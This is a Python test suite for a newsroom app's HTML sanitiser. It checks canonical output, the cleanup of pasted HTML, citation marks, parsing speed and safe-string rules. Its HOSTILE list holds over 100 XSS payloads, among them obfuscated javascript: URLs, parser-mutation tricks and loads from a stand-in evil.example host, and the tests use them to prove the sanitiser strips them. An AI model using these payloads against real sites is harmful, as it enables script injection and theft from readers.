"""The allow-list: what comes out of editorial/markup.py, whatever goes in."""

import html as entities
import pathlib
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from editorial import canonical, markup
from editorial.markup import (
    CitedWork,
    citation_marks,
    clean,
    clean_inline,
    from_markdown,
    from_text,
    looks_like_html,
    plain,
    safe,
)

ROOT = pathlib.Path(__file__).parents[2]
UID = "abcdefgh2345"

# ---------------------------------------------------------------------------------------------------------------------
# What is kept and how it is written

KEPT = {
    "paragraph": "<p>The ferry sailed.</p>",
    "headings": "<h2>Who pays?</h2><p>Nobody.</p><h3>In winter</h3><p>The island.</p>",
    "inline": "<p>A <strong>b</strong> <em>c</em> d<sub>2</sub> e<sup>3</sup> <code>f()</code></p>",
    "nested inline": "<p><strong>a<em>b</em></strong><em>c</em></p>",
    "link": '<p><a href="https://example.org/?a=1&amp;b=2">a</a></p>',
    "own link": '<p><a href="/articles/x/">a</a> <a href="#part-2">b</a> <a href="../y/">c</a></p>',
    "mail": '<p><a href="mailto:desk@example.org">write</a></p>',
    "lists": "<ul><li>a</li><li>b<ol><li>c</li></ol></li></ul>",
    "item of two paragraphs": "<ul><li><p>a</p><p>b</p></li></ul>",
    "quotation": "<blockquote><p>a</p><p>b</p></blockquote>",
    "quotation with list": "<blockquote><p>a</p><ul><li>b</li></ul></blockquote>",
    "rule": "<p>a</p><hr><p>b</p>",
    "line end": "<p>a<br>b</p>",
    "preformatted": "<pre>a\n  b &lt; c</pre>",
    "picture": f'<p>a</p><figure data-image="{UID}"></figure><p>b</p>',
    "picture with caption": f'<figure data-image="{UID}"><figcaption>The <em>pier</em></figcaption></figure>',
    "citation mark": "<p>Fares rose [@kirby2022, p. 3; @putz2022].</p>",
    "escapes": "<p>a &lt; b &amp; c &gt; d \"e\" 'f'</p>",
    "number": "<p>nearly 10&nbsp;000 people</p>",
    "French": "<p>Où&nbsp;? «&nbsp;Ici&nbsp;» : 5&nbsp;%</p>",
    "narrow space": "<p>10\u202f000</p>",
    "nothing": "",
}


@pytest.mark.parametrize("html", KEPT.values(), ids=KEPT)
def test_canonical_html_is_left_as_it_is(html):
    assert clean(html) == html


MADE = [
    ("h1 becomes h2", "<h1>a</h1>", "<h2>a</h2>"),
    ("h4 to h6 become h3", "<h4>a</h4><h5>b</h5><h6>c</h6>", "<h3>a</h3><h3>b</h3><h3>c</h3>"),
    ("b and i", "<p><b>a</b><i>b</i></p>", "<p><strong>a</strong><em>b</em></p>"),
    ("upper case", "<P><B>a</B></P>", "<p><strong>a</strong></p>"),
    ("stray text", "a <b>b</b><p>c</p>d", "<p>a <strong>b</strong></p><p>c</p><p>d</p>"),
    ("div and span", "<div class=x>a <span style='color:red'>b</span></div>c", "<p>a b</p><p>c</p>"),
    ("unclosed", "<p>a<p>b<b>c", "<p>a</p><p>b<strong>c</strong></p>"),
    ("inline across blocks", "<b>a<p>b</p>c</b>", "".join(f"<p><strong>{x}</strong></p>" for x in "abc")),
    ("misnested", "<p><b>a<i>b</b>c</i></p>", "<p><strong>a<em>b</em></strong><em>c</em></p>"),
    ("link around a block", '<a href="/x"><p>a</p></a>', '<p><a href="/x">a</a></p>'),
    ("double bold", "<p><b><strong>a</strong></b></p>", "<p><strong>a</strong></p>"),
    (
        "empty things",
        "<p></p><p> </p><h2><b></b></h2><ul><li></li></ul><blockquote> </blockquote><p>a</p>",
        "<p>a</p>",
    ),
    ("empty editor paragraph", "<p>&nbsp;</p><p><br></p><p>a</p>", "<p>a</p>"),
    ("editor's spaces", "<p>&nbsp;a&nbsp; b &nbsp;c&nbsp;&nbsp;d&nbsp;</p>", "<p>a b c d</p>"),
    ("space beside a tag", "<p>a&nbsp;<b> b</b></p>", "<p>a <strong>b</strong></p>"),
    ("bold space", "<p>a<b> </b>b</p>", "<p>a b</p>"),
    (
        "title and target",
        '<p><a title="" target="_blank" rel="x" href="/x">a</a></p>',
        '<p><a href="/x">a</a></p>',
    ),
    ("white space", "<p>  a\n\t b  </p>\n\n<p>c</p>\n", "<p>a b</p><p>c</p>"),
    ("two line ends", "a<br><br>b<br>c<br>", "<p>a</p><p>b<br>c</p>"),
    (
        "line ends with tags",
        "<p><b>a<br> <br>b</b></p>",
        "<p><strong>a</strong></p><p><strong>b</strong></p>",
    ),
    ("line end in heading", "<h2>a<br>b</h2>", "<h2>a b</h2>"),
    ("placeholder link", '<p><a href="#">a</a> <a>b</a> <a href="">c</a></p>', "<p>a b c</p>"),
    ("address with quotes", """<p><a href='/a"b<c>d'>a</a></p>""", '<p><a href="/a%22b%3Cc%3Ed">a</a></p>'),
    ("address with spaces", '<p><a href=" /a b ">a</a></p>', '<p><a href="/a%20b">a</a></p>'),
    (
        "items with p",
        "<ul><li><p>a</p></li><li><p>b</p><ul><li><p>c</p></li></ul></li></ul>",
        KEPT["lists"].replace("ol", "ul"),
    ),
    (
        "list beside its item",
        "<ul><li>a</li><ol><li>b</li></ol><li>c</li></ul>",
        "<ul><li>a<ol><li>b</li></ol></li><li>c</li></ul>",
    ),
    ("item without list", "<li>a</li><li>b</li><p>c</p>", "<ul><li>a</li><li>b</li></ul><p>c</p>"),
    (
        "empty quotation in an item",
        "<ul><li><blockquote></blockquote><p>a</p></li><li><blockquote></li></ul>",
        "<ul><li>a</li></ul>",
    ),
    ("text in a list", "<ul>a<li>b</li></ul>", "<ul><li>a</li><li>b</li></ul>"),
    (
        "heading in quotation",
        "<blockquote><h2>a</h2>b</blockquote>",
        "<blockquote><p>a</p><p>b</p></blockquote>",
    ),
    ("table", "<table><tr><th>a<th>b<tr><td>c<td>d</table>e", "<p>a | b</p><p>c | d</p><p>e</p>"),
    ("definitions", "<dl><dt>a<dd>b</dl>", "<p>a</p><p>b</p>"),
    ("picture by address", '<p>a <img src="http://x/y.png" alt="z"> b</p>', "<p>a b</p>"),
    ("figure without picture", "<figure><img src=x><figcaption>a</figcaption></figure>", "<p>a</p>"),
    (
        "figure with text",
        f'<figure data-image="{UID}"><p>a</p></figure>b',
        f'<figure data-image="{UID}"></figure><p>a</p><p>b</p>',
    ),
    (
        "caption after the figure",
        f'<figure data-image="{UID}"></figure><figcaption>a</figcaption>',
        f'<figure data-image="{UID}"></figure><p>a</p>',
    ),
    (
        "picture inside a paragraph",
        f'<p>a<figure data-image="{UID}"></figure>b</p>',
        f'<p>a</p><figure data-image="{UID}"></figure><p>b</p>',
    ),
    (
        "empty caption",
        f'<figure data-image="{UID}"><figcaption> </figcaption></figure>',
        f'<figure data-image="{UID}"></figure>',
    ),
    ("preformatted code", "<pre><code>a <b>b</b></code> c</pre>", "<pre>a <strong>b</strong> c</pre>"),
    ("preformatted", "<pre>\n\n a\r\n\tb  \n\n</pre>", "<pre> a\n\tb</pre>"),
    ("comment", "<p>a<!-- b -->c</p>", "<p>ac</p>"),
    ("byte order mark and NUL", "\ufeff<p>a\0b\x08c&#1;&#x202e;d</p>", "<p>abcd</p>"),
    ("lone surrogate", "<p>a\ud800b</p>", "<p>ab</p>"),
    ("no ampersand escape", "AT&T & you", "<p>AT&amp;T &amp; you</p>"),
    ("all spaces hard", "<p>a&nbsp;b&nbsp;c&nbsp;d&nbsp;10&nbsp;000</p>", "<p>a b c d 10&nbsp;000</p>"),
]


@pytest.mark.parametrize(("html", "expected"), [row[1:] for row in MADE], ids=[row[0] for row in MADE])
def test_html_of_editors_and_pastes_becomes_canonical(html, expected):
    assert clean(html) == expected
    assert clean(expected) == expected


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        ("plain", "plain"),
        ("  a  b ", "a b"),
        ("a > b < c & d", "a &gt; b &lt; c &amp; d"),
        ("<p>a <b>b</b></p>", "a <strong>b</strong>"),
        ("<p>a</p><p>b</p>", "a<br><br>b"),
        ("<h2>a</h2><ul><li>b</li></ul>", "a<br><br>b"),
        ("a<br>b<br>", "a<br>b"),
        ('<a href="/x" class=y>a</a><sub>1</sub><code>c</code>', '<a href="/x">a</a><sub>1</sub>c'),
        ("<pre>a\n b</pre>", "a b"),
        (f'<figure data-image="{UID}"><figcaption>a</figcaption></figure>', "a"),
        ("10&nbsp;000", "10&nbsp;000"),
        ("10\xa0000\xa0", "10&nbsp;000"),
        ("", ""),
    ],
)
def test_clean_inline_gives_one_run(html, expected):
    assert clean_inline(html) == expected
    assert clean_inline(expected) == expected


# ---------------------------------------------------------------------------------------------------------------------
# Hostile input

SCRIPT = "alert(1)"
HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x00>alert(1)</script>",
    "<script/x>alert(1)</script>",
    "<script>alert(1)",
    "<script>/*</script><img src=x onerror=alert(1)>*/",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='alert(1)'",
    "<img/src=x/onerror=alert(1)>",
    "<img src=\"x` `<script>alert(1)</script>\"` `>",
    "<img src=javascript:alert(1)>",
    "<img srcset='x onerror=alert(1)'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math href='javascript:alert(1)'>x</math>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='java&#0;script:alert(1)'>x</a>",
    "<a href='java&#x1;script:alert(1)'>x</a>",
    "<a href='java\u200bscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A;&#x61;vascript&colon;alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='javascript&#58;alert(1)'>x</a>",
    "<a href='javascript://example.org/%0aalert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='blob:https://example.org/1'>x</a>",
    "<a href='feed:javascript:alert(1)'>x</a>",
    "<a href='view-source:javascript:alert(1)'>x</a>",
    "<a href=\"\u2028javascript:alert(1)\">x</a>",
    "<a href=`javascript:alert(1)`>x</a>",
    "<a href='x' onclick=alert(1)>x</a>",
    "<a href='x' onclick\n=\nalert(1)>x</a>",
    "<a href='x\" onmouseover=\"alert(1)'>x</a>",
    "<a href='x&quot; onmouseover=&quot;alert(1)'>x</a>",
    "<a href=x ping='https://evil.example'>x</a>",
    "<a href=x style='background:url(javascript:alert(1))'>x</a>",
    "<p style='behavior:url(x.htc)'>x</p>",
    "<p onfocus=alert(1) tabindex=0 autofocus>x</p>",
    "<p id=x class=y data-x=z contenteditable>x</p>",
    "<div style='position:fixed;inset:0'>x</div>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>p{background:url('javascript:alert(1)')}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'><param name=x></object>",
    "<embed src='javascript:alert(1)'>",
    "<applet code=x></applet>",
    "<form action='javascript:alert(1)'><button>x</button></form>",
    "<button formaction='javascript:alert(1)'>x</button>",
    "<input onfocus=alert(1) autofocus>",
    "<select onfocus=alert(1)><option>x</option></select>",
    "<textarea onfocus=alert(1)>x</textarea>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video src=x onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>x",
    "<html><head><title>x</title></head><body onload=alert(1)>y",
    "<isindex action=javascript:alert(1)>",
    "<table background='javascript:alert(1)'><tr><td>x</table>",
    "<xss style='xss:expression(alert(1))'>x</xss>",
    "<x onclick=alert(1)>y</x>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "<title><img title='</title><img src=x onerror=alert(1)>'>",
    "<xmp><img title='</xmp><img src=x onerror=alert(1)>'>",
    "<plaintext><script>alert(1)</script>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<?php echo 1 ?><img src=x onerror=alert(1)>",
    "<!DOCTYPE html><!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
    "<<script>alert(1)//<</script>",
    "<p/onclick=alert(1)>x",
    "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
    "<p>&amp;lt;img src=x onerror=alert(1)&amp;gt;</p>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u226ascript\u226balert(1)",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<figure data-image='\"><script>alert(1)</script>'></figure>",
    "<figure data-image='a b' onclick=alert(1)></figure>",
    "<figure data-image=../../etc></figure>",
    f"<figure data-image={UID} onclick=alert(1)><figcaption onclick=alert(1)>x</figcaption></figure>",
    "<pre onclick=alert(1)><script>alert(1)</script></pre>",
    "<code><img src=x onerror=alert(1)></code>",
    "[@x<script>alert(1)</script>]",
    "[@\"onmouseover=\"alert(1)]",
    "<a href='//evil.example' target=_blank rel=opener>x</a>",
    "<p><svg><foreignObject><p><iframe src=javascript:alert(1)></p></foreignObject></svg></p>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<select><noembed></select><script x='a@b'y='a'>alert(1)//a</script>",
    "\ufdd0\ufdd1\ufdd2script\ufdd3alert(1)\ufdd2/script\ufdd3",
]  # fmt: skip
BIG = f"<p>{'word ' * 12_000}</p>"  # long enough to be read the other way

ALLOWED = re.compile(
    r"</?(?:p|h2|h3|strong|em|sub|sup|code|ul|ol|li|blockquote|pre|figcaption)>|<br>|<hr>|</a>|</figure>"
    r'|<a href="(?:(?:https?|mailto):[^"<>]*|(?![a-z]*:)[^"<>]*)">|<figure data-image="[A-Za-z0-9-]{1,36}">',
)


def test_there_are_many_hostile_payloads():
    assert len(set(HOSTILE)) >= 80


@pytest.mark.parametrize("html", HOSTILE)
@pytest.mark.parametrize("around", ["{}", "<p>a {} b</p>", "<ul><li>{}", "<b><i>{}", BIG + "{}"])
def test_hostile_html_leaves_nothing_but_what_is_listed(html, around):
    html = around.replace("{}", html)

    for result in (clean(html), clean_inline(html), from_markdown(html[-200:]), from_text(html[-200:])):
        rest = ALLOWED.sub("", result)
        assert "<" not in rest
        assert ">" not in rest
        assert not markup.CONTROLS.search(result)
    assert clean(clean(html)) == clean(html)
    assert clean_inline(clean_inline(html)) == clean_inline(html)


def test_script_is_not_even_text():
    assert clean("<p>a<script>alert(1)</script><style>p{}</style></p>") == "<p>a</p>"
    assert clean(BIG + "<p>a<script>alert(1)</script><style>p{}</style></p>").endswith("<p>a</p>")


HUGE = {
    "open div": "<div>" * 60_000,
    "open formatting": "".join(f"<b id={i}>" for i in range(3000)) + "<p>x" * 20_000,
    "attributes": f"<p {' '.join(f'a{i}' for i in range(60_000))}>x",
    "open angle brackets": "<" * 300_000,
    "open tags": "<a " * 100_000,
    "open quotes": '<a href="' * 50_000,
    "open comments": "<!--" * 100_000,
    "open scripts": "<script>" * 50_000,
    "ampersands": "&" * 300_000,
    "no-break spaces": "&nbsp;" * 100_000,
    "quotations": "<blockquote>" * 40_000 + "x",
    "lists": "<ul><li>" * 40_000 + "x",
    "line ends": "a<br>" * 60_000,
    "tables": "<table><tr><td>" * 30_000 + "x",
    "marks": "[@a;" * 80_000,
    "mark keys": "[@a" + ".a" * 100_000,
    "one paragraph": "word " * 400_000,
}


@pytest.mark.parametrize("html", HUGE.values(), ids=HUGE)
def test_huge_and_hostile_input_is_read_in_linear_time(html):
    """No clock: read in quadratic time any of these would take minutes, and the suite would stand still here."""
    once = clean(html)

    assert clean(once) == once
    plain(once)
    citation_marks(once)
    clean_inline(html)


def test_long_article_is_read_like_a_short_one():
    article = "".join(html for name, html in KEPT.items())
    article = (
        "<h1>A &amp; b</h1>"
        + article.replace("strong>", "b>")
        + "<p>a<p>b<table><tr><td><p>c</table><a href=/x title='>'>d</a>"
    )
    times = markup.TAME_ABOVE // len(article) + 2

    assert clean(article * times) == clean(article) * times


# ---------------------------------------------------------------------------------------------------------------------
# Any input

pieces = st.sampled_from(
    [
        "<p>",
        "</p>",
        "<h1>",
        "</h1>",
        "<h2>",
        "<h4>",
        "</h4>",
        "<b>",
        "</b>",
        "<strong>",
        "</strong>",
        "<i>",
        "</i>",
        "<em>",
        "<sup>",
        "</sup>",
        "<br>",
        "<br/>",
        "<hr>",
        "<ul>",
        "</ul>",
        "<ol>",
        "</ol>",
        "<li>",
        "</li>",
        "<blockquote>",
        "</blockquote>",
        "<pre>",
        "</pre>",
        "<code>",
        "</code>",
        "<div>",
        "</div>",
        "<span>",
        "<table>",
        "<tr>",
        "<td>",
        "</table>",
        '<a_href="/x">',
        '<a_href="javascript:x">',
        '<a_href="https://e.org/?a&b">',
        "</a>",
        '<figure_data-image="abc">',
        "</figure>",
        "<figcaption>",
        "</figcaption>",
        "<figure>",
        "<img_src=x>",
        "<script>",
        "</script>",
        "<!--",
        "-->",
        "&nbsp;",
        "&amp;",
        "&lt;",
        "&gt;",
        "&",
        "<",
        ">",
        '"',
        "a",
        "b",
        "1",
        ".",
        "[@k2022,_p._3]",
        "é",
        "٣",
        "中",
    ]
).map(lambda piece: piece.replace("_", " ")) | st.sampled_from(
    [" ", "\n", "\t", "\r\n", "\0", "\x85", "\u2028", "\xa0"]
)
soup = st.lists(pieces | st.text(max_size=4), max_size=40).map("".join)


@given(soup)
def test_cleaning_twice_changes_nothing(html):
    once, line = clean(html), clean_inline(html)

    assert clean(once) == once
    assert clean_inline(line) == line
    assert "<" not in ALLOWED.sub("", once + line)


@given(soup)
def test_canonical_html_is_what_a_browser_would_rebuild(html):
    """nh3's parser, which is a browser's, reads the result and writes the same: nothing left for a browser to repair."""
    once = clean(html)

    assert markup._nh3.clean(once) == once


@given(soup)
def test_the_short_cut_is_no_other_way(html):
    """What `clean` recognises as settled, and so never parses, is what parsing it gives."""
    for one in (html, clean(html), clean_inline(html)):
        if "  " not in one and canonical.SETTLED.fullmatch(one):
            assert markup._built(one, canonical.INLINE).body() == one
        if "  " not in one and canonical.SETTLED_LINE.fullmatch(one):
            assert markup._built(one, canonical.ONE_LINE).line() == one


def test_a_plain_article_takes_the_short_cut():
    for name in (
        "paragraph",
        "headings",
        "link",
        "quotation",
        "rule",
        "picture",
        "picture with caption",
        "citation mark",
        "escapes",
    ):
        assert canonical.SETTLED.fullmatch(KEPT[name]), name


@given(soup)
def test_long_and_short_input_end_the_same_way(html):
    once = clean(html)

    assert clean(BIG + once) == clean(BIG) + once


@given(
    st.lists(st.sampled_from(["alpha", "beta", "gamma", "delta", "epsilon"]), min_size=1, max_size=12), soup
)
def test_words_between_tags_are_kept_in_order(words, html):
    tags = [
        tag
        for tag in re.findall(r"</?[a-z][^<>]*>", html)
        if not re.match("</?(script|figcaption|img)|<!--", tag)
    ]
    mixed = "".join(word + tag for word, tag in zip(words, (tags + [" "] * 12)[:12], strict=False))

    kept = re.sub(r"[\s|]", "", plain(clean(mixed)))

    assert kept == "".join(words)


@given(st.text(max_size=200))
def test_text_survives_as_text(text):
    wanted = markup.CONTROLS.sub("", text).split()

    assert plain(from_text(text)).split() == wanted
    assert clean(from_text(text)) == from_text(text)


@given(st.text(max_size=200))
def test_any_text_can_be_read_as_anything(text):
    for function in (clean, clean_inline, plain, from_text, from_markdown, looks_like_html, citation_marks):
        function(text)


# ---------------------------------------------------------------------------------------------------------------------
# Text out, text in


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        ("<p>a <strong>b</strong>c</p><p>d &amp; e</p>", "a bc\nd & e"),
        ("<h2>a</h2><ul><li>b<ul><li>c</li></ul></li></ul>", "a\nb\nc"),
        ("<p>a<br>b</p><hr><p>c</p>", "a\nb\nc"),
        ("<pre>a\n  b</pre>", "a\nb"),
        (f'<figure data-image="{UID}"><figcaption>a</figcaption></figure>', "a"),
        ("<p>&amp;lt;b&amp;gt; 1 &lt; 2</p>", "&lt;b&gt; 1 < 2"),
        ("<p>10&nbsp;000</p>", "10\xa0000"),
        ("just text", "just text"),
        ("", ""),
    ],
)
def test_plain_is_what_one_reads(html, expected):
    assert plain(html) == expected


def test_text_gets_paragraphs_at_blank_lines():
    assert (
        from_text("a\r\nb\r\n\r\n \r\nc <d> & e\n\xa0\n  f  ")
        == "<p>a<br>b</p><p>c &lt;d&gt; &amp; e</p><p>f</p>"
    )


def test_markdown_becomes_body_html():
    text = "# A\n\n**b** *c* `d` [e](https://example.org) [f](#) US\\$5 [@k, p. 3]\n\n> g\n\n1. h\n2. i\n\n---\n\n```\nj < k\n```\n"

    assert from_markdown(text) == (
        "<h2>A</h2><p><strong>b</strong> <em>c</em> <code>d</code> "
        '<a href="https://example.org">e</a> f US$5 [@k, p. 3]</p>'
        "<blockquote><p>g</p></blockquote><ol><li>h</li><li>i</li></ol><hr><pre>j &lt; k</pre>"
    )


def test_html_in_markdown_is_shown_not_used():
    assert (
        from_markdown("<b>a</b> <script>x</script>")
        == "<p>&lt;b&gt;a&lt;/b&gt; &lt;script&gt;x&lt;/script&gt;</p>"
    )


@pytest.mark.parametrize(
    "text",
    ["<p>a</p>", "a<br/>b", "x <strong>y</strong>", "AT&amp;T", "a&nbsp;b", '<a href="/x">a</a>', "<P>A"],
)
def test_html_is_told_from_text(text):
    assert looks_like_html(text)


@pytest.mark.parametrize(
    "text", ["", "a < b", "a <b", "AT&T", "<3", "x <person@example.org>", "[@k]", "if a<b and c>d", "**a**"]
)
def test_text_is_told_from_html(text):
    assert not looks_like_html(text)


# ---------------------------------------------------------------------------------------------------------------------
# Citation marks


@pytest.mark.parametrize(
    ("html", "works"),
    [
        ("<p>a [@kirby2022].</p>", [[("kirby2022", "")]]),
        ("[@kirby2022, p. 3]", [[("kirby2022", "p. 3")]]),
        ("[@kirby2022,&nbsp;pp. 3–5, 7]", [[("kirby2022", "pp. 3–5, 7")]]),
        ("[@a, p. 1 &amp; 2; @b]", [[("a", "p. 1 & 2"), ("b", "")]]),
        ("[@a;@b ; @c]", [[("a", ""), ("b", ""), ("c", "")]]),
        ("[@a] and [@b]", [[("a", "")], [("b", "")]]),
        ("[@бодрова2020] [@a:b/c-d_e.f]", [[("бодрова2020", "")], [("a:b/c-d_e.f", "")]]),
        ("[@a.]", []),
        ("[desk@example.org] [@] [a @b] [@a b] @a (@a) [@a<em>b</em>] [@a; b] [@a", []),
    ],
)
def test_citation_marks_are_found(html, works):
    assert [[tuple(work) for work in mark.works] for mark in citation_marks(html)] == works


def test_mark_tells_where_it_stands():
    html = "<p>a [@b, p. 3] c</p>"

    (mark,) = citation_marks(html)

    assert html[slice(*mark.span)] == "[@b, p. 3]"
    assert mark.works == (CitedWork("b", "p. 3"),)


def test_marks_pass_the_allow_list():
    html = "<p>a [@b, p. 3 &amp; 4; @c]</p>"

    assert citation_marks(clean(html)) == citation_marks(html)


# ---------------------------------------------------------------------------------------------------------------------
# One door


def test_safe_prints_as_it_is():
    assert safe("<p>a</p>").__html__() == "<p>a</p>"


def test_nothing_else_marks_strings_safe():
    """One place to read when one asks what may reach a page unescaped."""
    apps = ["articles", "briefs", "editorial", "newsroom", "sources"]
    files = [path for app in apps for path in (ROOT / app).rglob("*.py")]
    forbidden = re.compile(r"\bmark_safe\b|\bSafeString\b|\bSafeText\b")

    callers = {
        path.relative_to(ROOT).as_posix() for path in files if forbidden.search(path.read_text("utf-8"))
    }

    assert callers == {"editorial/markup.py"}


def test_templates_use_no_safe_filter():
    files = [*ROOT.glob("templates/**/*.html"), *ROOT.glob("*/templates/**/*.html")]
    forbidden = re.compile(r"\|\s*safe(?:seq)?\b|autoescape\s+off")

    assert [path.name for path in files if forbidden.search(path.read_text("utf-8"))] == []


def test_entities_helper_agrees_with_plain():
    assert plain(clean("&eacute;&hellip;&#8217;")) == entities.unescape("&eacute;&hellip;&#8217;")
